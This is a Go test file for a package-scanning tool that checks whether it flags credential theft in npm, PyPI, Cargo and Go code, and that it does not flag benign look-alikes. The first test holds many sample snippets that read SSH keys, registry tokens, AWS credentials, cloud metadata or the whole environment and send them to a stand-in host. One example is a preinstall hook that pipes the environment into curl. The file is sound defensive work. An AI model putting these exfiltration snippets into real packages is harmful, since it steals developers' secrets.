package content

import (
	"strings"
	"testing"

	"assay.invalid/internal/assay"
)

func TestCredentialsReadAndSent(t *testing.T) {
	js := func(text, mark, says string) specimen {
		return specimen{assay.NPM, files{"package.json": manifest(""), "index.js": text}, CredentialRead, "index.js", mark, says}
	}
	py := func(text, mark, says string) specimen {
		return specimen{assay.PyPI, files{"specimen/a.py": text}, CredentialRead, "specimen/a.py", mark, says}
	}
	for what, s := range map[string]specimen{
		".npmrc by fetch":                 js("const fs = require('fs')\nconst t = fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8')\nfetch('https://bad.example/c', { method: 'POST', body: t })\n", ".npmrc", "bad.example"),
		"keys of SSH by axios":            js("const axios = require('axios')\nconst k = require('fs').readFileSync(`${home}/.ssh/id_rsa`)\naxios.post('https://bad.example/c', { k })\n", ".ssh/id_rsa", "private key"),
		"a path in parts":                 js("const p = path.join(os.homedir(), '.aws', 'credentials')\nfs.readFile(p, (e, d) => axios.post('https://bad.example', d))\n", ".aws", "AWS's keys"),
		"an address in a name":            js("const TARGET = 'https://bad.example/hook'\nconst d = fs.readFileSync('/home/a/.docker/config.json')\nhttp.post(TARGET, d)\n", ".docker", "bad.example"),
		"a request with options":          js("const t = fs.readFileSync('.netrc')\nconst o = {\n  hostname: 'bad.example',\n  method: 'POST',\n}\nconst r = https.request(o)\nr.write(t)\n", ".netrc", "bad.example"),
		"an address in base64":            js("const t = fs.readFileSync(h + '/.npmrc')\naxios.post(atob('aHR0cHM6Ly9iYWQuZXhhbXBsZS9j'), t)\n", ".npmrc", "base64"),
		"the environment":                 js("fetch('https://bad.example', {\n method: 'POST', body: JSON.stringify(process.env)})\n", "JSON", "whole environment"),
		"the environment spread":          js("const e = JSON.stringify({...process.env})\nfetch('https://bad.example', {method: 'POST', body: e})\n", "JSON", "whole environment"),
		"the environment in an address":   js("const d = JSON.stringify(process.env)\nhttps.get('https://bad.example/?q=' + d)\n", "JSON", "whole environment"),
		"the cloud's metadata":            js("const t = await fetch('http://169.254.169.254/latest/meta-data/iam')\nawait fetch('https://bad.example', {method: 'POST', body: t})\n", "169.254", "metadata"),
		"by name service":                 js("const t = fs.readFileSync('/home/a/.npmrc', 'hex')\ndns.lookup(t + '.bad.example', () => {})\n", ".npmrc", "bad.example"),
		".pypirc by requests":             py("import requests\nt = open(os.path.expanduser('~/.pypirc')).read()\nrequests.post('https://bad.example', data=t)\n", ".pypirc", "bad.example"),
		"the environment by urllib":       py("import urllib.request, json, os\nb = json.dumps(dict(os.environ)).encode()\nurllib.request.urlopen(urllib.request.Request('https://bad.example', data=b))\n", "json.dumps", "whole environment"),
		"a key over a socket":             py("s = socket.socket()\nk = open('/home/a/.ssh/id_ed25519').read()\ns.connect(('bad.example', 443))\ns.sendall(k)\n", ".ssh", "bad.example"),
		"Rust":                            {assay.Cargo, files{"src/lib.rs": "fn f() {\n let k = std::fs::read_to_string(\"/home/a/.cargo/credentials.toml\");\n ureq::post(\"https://bad.example\").send_string(&k);\n}\n"}, CredentialRead, "src/lib.rs", ".cargo", "bad.example"},
		"Go":                              {assay.Golang, files{"a.go": "package a\n\nfunc f() {\n\tb, _ := os.ReadFile(home + `/.aws/credentials`)\n\thttp.Post(\"https://bad.example\", \"text/plain\", bytes.NewReader(b))\n}\n"}, CredentialRead, "a.go", ".aws", "bad.example"},
		"Go's environment":                {assay.Golang, files{"a.go": "package a\n\nfunc f() {\n\te := os.Environ()\n\thttp.PostForm(\"https://bad.example\", url.Values{\"e\": e})\n}\n"}, CredentialRead, "a.go", "os.Environ", "environment"},
		"curl with a file":                {assay.NPM, files{"package.json": manifest(""), "x.sh": "#!/bin/sh\ncurl -s -F \"f=@$HOME/.ssh/id_rsa\" https://bad.example/u\n"}, CredentialRead, "x.sh", "curl", "private key"},
		"the environment piped into curl": {assay.NPM, files{"package.json": manifest(`"preinstall": "env | curl -X POST --data-binary @- https://bad.example"`)}, CredentialRead, "package.json", "preinstall", "whole environment"},
		"a crate's file named by a wheel": {assay.PyPI, files{"setup.py": "import os\nos.system('curl -d @$HOME/.pypirc https://bad.example')\n"}, CredentialRead, "setup.py", "system", ".pypirc"},
	} {
		t.Run(what, s.judge)
	}
}

func TestHonestUseOfCredentials(t *testing.T) {
	js := func(text string) specimen {
		return specimen{eco: assay.NPM, files: files{"package.json": manifest(""), "index.js": text}}
	}
	py := func(text string) specimen {
		return specimen{eco: assay.PyPI, files: files{"specimen/a.py": text}}
	}
	for what, s := range map[string]specimen{
		"a client with a configured address": js("const rc = fs.readFileSync(home + '/.npmrc', 'utf8')\nawait fetch(config.registry + '/-/v1/login', { method: 'POST', body: '{}' })\n"),
		"a name that only begins alike":      js("fs.readFileSync('docs/.npmrc.md')\nfetch('https://code.example', { method: 'POST', body: 'x' })\n"),
		"reading alone":                      js("const k = fs.readFileSync(home + '/.ssh/id_rsa')\nfetch('https://code.example/help')\n"),
		"a child's environment":              js("spawn('ls', { env: Object.assign({}, process.env) })\nfetch('https://code.example', { method: 'POST', body: 'x' })\n"),
		"one variable":                       js("fetch('https://code.example', { method: 'POST', body: JSON.stringify({ ci: process.env.CI }) })\n"),
		"far apart in a bundle":              js("const k = fs.readFileSync(home + '/.npmrc')\n" + strings.Repeat("call(1, 2, 3);\n", 3000) + "fetch('https://code.example', { method: 'POST', body: x })\n"),
		"its own cloud":                      js("const t = await fetch('http://169.254.169.254/latest/api/token', { method: 'PUT' })\nawait fetch('https://sts.amazonaws.com/', { method: 'POST', body: t })\n"),
		"a test's server":                    js("const k = fs.readFileSync(home + '/.npmrc')\nfetch('http://127.0.0.1:80/', { method: 'POST', body: k })\n"),
		"a comment":                          js("// fs.readFileSync('.npmrc') fetch('https://bad.example', { method: 'POST' })\n"),
		"a route":                            js("const k = fs.readFileSync(home + '/.npmrc')\napp.post('/path', h)\n"),
		"netrc, as requests reads it":        py("def get_netrc_auth(url):\n    p = os.path.expanduser('~/.netrc')\n    open(p)\nrequests.post(url, data=d)\n"),
		"an environment that is changed":     py("env = dict(os.environ, LANG='C')\nsubprocess.run(['ls'], env=env)\nrequests.get('https://code.example')\n"),
	} {
		t.Run(what, s.judge)
	}
}
